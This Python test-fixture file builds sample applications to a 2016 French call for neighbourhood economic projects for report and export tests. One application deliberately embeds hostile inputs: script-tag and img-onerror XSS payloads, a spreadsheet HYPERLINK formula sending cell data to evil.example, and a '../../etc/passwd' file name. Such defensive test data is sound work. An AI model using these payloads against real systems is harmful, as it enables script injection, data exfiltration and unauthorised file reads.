"""Realistic applications for the report and export tests: twelve territories of the 2016 call.

Each one is built from a list of problems (which checks are missing or to check), so a test can
say what it expects without re-reading this file. One application carries hostile text in every
place a mail can put it (subject, file name, field values, evidence, message ids, notes).
"""

from __future__ import annotations

import hashlib
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

from pipeline.report_data import Correction, ReportData
from schemas import (
    Application,
    ApplicationFields,
    Campaign,
    CheckCode,
    CheckResult,
    CheckStatus,
    Contact,
    DocumentKind,
    DocumentRef,
    Evidence,
    GroupingReason,
    Method,
    Person,
    Service,
    UnrelatedMessage,
)

PARIS = ZoneInfo("Europe/Paris")
HOSTILE_SCRIPT = "<script>window.__pwned=1</script>"
HOSTILE_IMG = '<img src=x onerror="window.__pwned=2">'
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
DEADLINE = datetime(2016, 4, 15, 23, 59, 59, tzinfo=PARIS)

_OK_MESSAGES: dict[CheckCode, str] = {
    CheckCode.ON_TIME: "Reçue avant la date limite.",
    CheckCode.BULLETIN: "Bulletin d'inscription trouvé.",
    CheckCode.LETTER: "Lettre d'intention trouvée.",
    CheckCode.PROJECT_TITLE: "Titre du projet renseigné.",
    CheckCode.QUARTIERS: "Quartiers concernés indiqués.",
    CheckCode.DESCRIPTION: "Description présente (plus de 400 caractères).",
    CheckCode.DIFFICULTIES: "Difficultés décrites.",
    CheckCode.CONTACTS: "Contacts politique de la ville et développement économique indiqués.",
    CheckCode.ELECTED_OFFICIAL: "Élu référent désigné.",
    CheckCode.LETTER_SIGNED: "Signature manuscrite repérée en bas de la lettre.",
    CheckCode.MOTIVATION: "La lettre expose les motivations de la collectivité.",
    CheckCode.OBJECTIVES: "Objectifs exposés dans la lettre.",
    CheckCode.QUARTIER_JUSTIFICATION: "Le choix des quartiers est justifié.",
    CheckCode.QUARTIERS_QPV: "Tous les quartiers cités sont des QPV de la liste 2015.",
}

_PROBLEM_MESSAGES: dict[tuple[CheckCode, CheckStatus], str] = {
    (CheckCode.ON_TIME, CheckStatus.MISSING): "Reçue après la date limite du 15 avril 2016.",
    (CheckCode.BULLETIN, CheckStatus.MISSING): "Aucun bulletin d'inscription parmi les pièces.",
    (CheckCode.LETTER, CheckStatus.MISSING): "Aucune lettre d'intention parmi les pièces.",
    (CheckCode.ELECTED_OFFICIAL, CheckStatus.MISSING): "Aucun élu référent n'est nommé.",
    (CheckCode.CONTACTS, CheckStatus.WARNING): "Seul le contact politique de la ville est donné.",
    (CheckCode.LETTER_SIGNED, CheckStatus.WARNING): "Lettre scannée : signature peu lisible.",
    (CheckCode.QUARTIERS_QPV, CheckStatus.WARNING): "« Le Haut Livrac » n'est QPV qu'en 2024.",
    (CheckCode.MOTIVATION, CheckStatus.MISSING): "La lettre ne dit pas pourquoi la collectivité "
    "se porte candidate.",
    (CheckCode.DIFFICULTIES, CheckStatus.WARNING): "Texte très court (12 mots) : à relire.",
}


def sha(name: str) -> str:
    return hashlib.sha256(name.encode("utf-8")).hexdigest()


def _result(code: CheckCode, status: CheckStatus, bulletin: str, letter: str) -> CheckResult:
    if status == CheckStatus.OK:
        message = _OK_MESSAGES[code]
    else:
        message = _PROBLEM_MESSAGES.get((code, status), f"Contrôle {code.value} : {status.value}.")
    in_letter = code in {
        CheckCode.LETTER,
        CheckCode.LETTER_SIGNED,
        CheckCode.MOTIVATION,
        CheckCode.OBJECTIVES,
        CheckCode.QUARTIER_JUSTIFICATION,
    }
    document = letter if in_letter else bulletin
    evidence = []
    if status != CheckStatus.MISSING and code != CheckCode.ON_TIME:
        evidence.append(
            Evidence(
                document=document,
                document_sha256=sha(document),
                page=2 if in_letter else 1,
                text=f"Extrait cité pour « {code.value} » : « développement économique "
                "des quartiers prioritaires »",
                method=Method.OCR if "scan" in document else Method.PDF_TEXT,
                confidence=0.72 if "scan" in document else 1.0,
            )
        )
    return CheckResult(status=status, message=message, evidence=evidence)


def make_application(
    app_id: str,
    territory: str | None,
    *,
    problems: dict[CheckCode, CheckStatus] | None = None,
    not_recorded: tuple[CheckCode, ...] = (),
    received_at: datetime | None = None,
    project_title: str | None = "Fabrique à entreprendre des quartiers",
    quartiers: tuple[str, ...] = ("Saint-Michel", "Bacalan"),
    subject: str = "Candidature AMI création d'activités économiques",
    bulletin_name: str = "Bulletin d'inscription.pdf",
    letter_name: str = "Lettre d'intention signée.pdf",
    sender: str = "politique.ville@exemple.fr",
) -> Application:
    """An application whose checks are OK except the listed problems."""
    problems = problems or {}
    on_time = problems.get(CheckCode.ON_TIME) != CheckStatus.MISSING
    received = received_at or (
        datetime(2016, 4, 12, 9, 30, tzinfo=UTC)
        if on_time
        else DEADLINE.astimezone(UTC) + timedelta(days=2)
    )
    first, second = f"{app_id}.1@exemple.fr", f"{app_id}.2@exemple.fr"
    documents = []
    if problems.get(CheckCode.BULLETIN) != CheckStatus.MISSING:
        documents.append(_document(bulletin_name, DocumentKind.BULLETIN, first))
    if problems.get(CheckCode.LETTER) != CheckStatus.MISSING:
        documents.append(_document(letter_name, DocumentKind.LETTER, second))
    checks = {
        code: _result(code, problems.get(code, CheckStatus.OK), bulletin_name, letter_name)
        for code in CheckCode
        if code not in not_recorded
    }
    official_missing = problems.get(CheckCode.ELECTED_OFFICIAL) == CheckStatus.MISSING
    return Application(
        id=app_id,
        territory=territory,
        received_at=received,
        on_time=on_time,
        messages=[first, second],
        documents=documents,
        fields=_fields(project_title, quartiers, bulletin_name, official_missing),
        checks=checks,
        grouping=[
            GroupingReason(
                message_id=first,
                rule="first_message",
                detail="Premier message de cette candidature.",
            ),
            GroupingReason(
                message_id=second,
                rule="thread",
                detail="Réponse dans le fil d'un message de cette candidature.",
                joined=first,
            ),
        ],
        sender=sender,
        subject=subject,
    )


def _document(name: str, kind: DocumentKind, message_id: str) -> DocumentRef:
    return DocumentRef(
        filename=name,
        kind=kind,
        ocr="scan" in name,
        sha256=sha(name),
        message_id=message_id,
        media_type="application/pdf",
        kind_reason="Titre « Bulletin d'inscription » en page 1."
        if kind == DocumentKind.BULLETIN
        else "Formule « Madame, Monsieur » et signature.",
    )


def _fields(
    title: str | None, quartiers: tuple[str, ...], bulletin: str, official_missing: bool
) -> ApplicationFields:
    seen = Evidence(document=bulletin, document_sha256=sha(bulletin), page=1, text="Mme Dupré")
    return ApplicationFields(
        project_title=title,
        quartiers=list(quartiers),
        description="Accompagner les porteurs de projet des quartiers prioritaires, "
        "de l'idée à l'immatriculation, avec la CCI et les couveuses.",
        difficulties="Peu de locaux d'activité abordables ; méconnaissance des dispositifs.",
        contacts=[
            Contact(
                name="Élodie Garçon",
                function="Cheffe de projet politique de la ville",
                service=Service.POLITIQUE_DE_LA_VILLE,
                email="e.garcon@exemple.fr",
                phone="+33556000000",
                evidence=[seen],
            ),
            Contact(
                name="Jérôme Lefèvre",
                function="Chargé de mission développement économique",
                service=Service.DEVELOPPEMENT_ECONOMIQUE,
                email="j.lefevre@exemple.fr",
                phone="-05 56 00 00 01",
            ),
        ],
        elected_official=None
        if official_missing
        else Person(name="Mme Hélène Dupré", title="Adjointe au maire", evidence=[seen]),
        letter_signatory=Person(name="M. François Léger", title="Maire"),
        letter_signed=True,
    )


def hostile_application() -> Application:
    """Hostile text wherever a mail can put text."""
    base = make_application(
        "coutras-2016",
        "Ville de Coutras",
        problems={CheckCode.MOTIVATION: CheckStatus.MISSING},
        project_title=f"Projet {HOSTILE_SCRIPT}",
        quartiers=("Quartier du Centre", HOSTILE_IMG),
        subject=f"Candidature {HOSTILE_IMG}",
        bulletin_name=f"{HOSTILE_IMG}.pdf",
        letter_name="../../etc/passwd",
        sender=f"{HOSTILE_SCRIPT}@exemple.fr",
    )
    fields = base.fields.model_copy(
        update={
            "description": HOSTILE_FORMULA,
            "elected_official": Person(name=HOSTILE_FORMULA, title="Maire"),
        }
    )
    grouping = [
        *base.grouping,
        GroupingReason(
            message_id=HOSTILE_SCRIPT,
            rule="same_territory",
            detail=f"Même collectivité nommée dans les documents : {HOSTILE_IMG}.",
        ),
    ]
    return base.model_copy(
        update={
            "fields": fields,
            "grouping": grouping,
            "messages": [*base.messages, HOSTILE_SCRIPT],
        }
    )


def sample_applications() -> list[Application]:
    """Twelve applications: 4 complete, 3 to check, 5 incomplete (one late, one unidentified)."""
    m, w = CheckStatus.MISSING, CheckStatus.WARNING
    return [
        make_application("bordeaux-metropole", "Bordeaux Métropole"),
        make_application(
            "bergerac",
            "Communauté d'agglomération bergeracoise",
            problems={CheckCode.LETTER: m, CheckCode.LETTER_SIGNED: m, CheckCode.MOTIVATION: m},
            quartiers=("Quartier Nord", "Rive Gauche"),
        ),
        make_application(
            "pau",
            "Communauté d'agglomération Pau-Pyrénées",
            problems={CheckCode.LETTER_SIGNED: w},
            not_recorded=(CheckCode.QUARTIERS_QPV,),
            letter_name="lettre_scan_signée.pdf",
            quartiers=("Saragosse", "Ousse des Bois"),
        ),
        make_application(
            "mont-de-marsan", "Mont-de-Marsan Agglomération", quartiers=("Le Peyrouat",)
        ),
        make_application(
            "agen",
            "Agglomération d'Agen",
            problems={CheckCode.ELECTED_OFFICIAL: m, CheckCode.CONTACTS: w},
            quartiers=("Montanou", "Le Pin"),
        ),
        make_application(
            "grand-dax",
            "Communauté d'agglomération du Grand Dax",
            problems={CheckCode.ON_TIME: m},
            quartiers=("Le Sablar", "Cuyès"),
        ),
        make_application(
            "pessac",
            "Ville de Pessac",
            problems={CheckCode.QUARTIERS_QPV: w},
            quartiers=("Saige", "Le Haut Livrac"),
        ),
        make_application("cenon", "Ville de Cenon", quartiers=("Palmer - Saraillère - 8 Mai 45",)),
        make_application(
            "grand-perigueux",
            "Grand Périgueux",
            problems={
                CheckCode.BULLETIN: m,
                CheckCode.PROJECT_TITLE: m,
                CheckCode.DESCRIPTION: m,
                CheckCode.DIFFICULTIES: m,
            },
            project_title=None,
            quartiers=("Chamiers",),
        ),
        make_application(
            "villeneuve",
            "Communauté d'agglomération du Grand Villeneuvois",
            problems={CheckCode.DIFFICULTIES: w},
            quartiers=("La Bastide (cœur de ville)",),
        ),
        make_application("lormont", "Ville de Lormont", quartiers=("Carriet", "Génicart Est")),
        hostile_application(),
    ]


def unidentified_application() -> Application:
    return make_application(
        "inconnu-7f3a",
        None,
        problems={
            CheckCode.LETTER: CheckStatus.MISSING,
            CheckCode.ELECTED_OFFICIAL: CheckStatus.MISSING,
        },
        subject=f"Fwd: dossier {HOSTILE_SCRIPT}",
    )


def sample_unrelated() -> list[UnrelatedMessage]:
    return [
        UnrelatedMessage(
            message_id="question-1@mairie.example",
            subject="Question sur la date limite de l'AMI",
            from_addr="accueil@mairie-exemple.fr",
            received_at=datetime(2016, 3, 20, 10, 0, tzinfo=UTC),
            reason="Ni bulletin ni lettre d'intention, et rattaché à aucune candidature "
            "(question sur l'appel, message isolé).",
            rule="no_application_document",
        ),
        UnrelatedMessage(
            message_id="auto-2@example.org",
            subject=f"Réponse automatique : absence {HOSTILE_IMG}",
            from_addr="noreply@example.org",
            received_at=datetime(2016, 4, 2, 7, 45, tzinfo=UTC),
            reason="Réponse automatique (Auto-Submitted).",
            rule="auto_reply",
        ),
    ]


def sample_campaign() -> Campaign:
    return Campaign(
        name="AMI « La création d'activités économiques dans les quartiers politique de la "
        "ville » 2016",
        deadline=datetime(2016, 4, 15, 23, 59, 59),
        referents=["anne-sophie.gillion@aquitaine-pqa.fr", "claire.grygiel@aquitaine-pqa.fr"],
    )


def sample_report_data(applications: list[Application] | None = None) -> ReportData:
    apps = sample_applications() if applications is None else applications
    return ReportData(
        campaign=sample_campaign(),
        applications=apps,
        unrelated=sample_unrelated(),
        last_successful_poll=datetime(2016, 4, 16, 6, 0, tzinfo=UTC),
        generated_at=datetime(2016, 4, 16, 6, 5, tzinfo=UTC),
        archive_links={sha("Bulletin d'inscription.pdf"): "../archive/files/ab/bulletin"},
        corrections={
            "agen": [
                Correction(
                    target="elected_official",
                    new_value="M. Jean Dionis du Séjour, maire",
                    author="Claire Grygiel",
                    at=datetime(2016, 4, 18, 14, 30, tzinfo=UTC),
                    comment="Nommé dans le corps du courriel.",
                )
            ]
        },
        notes={"coutras-2016": [f"Rappeler la mairie {HOSTILE_SCRIPT}"]},
    )
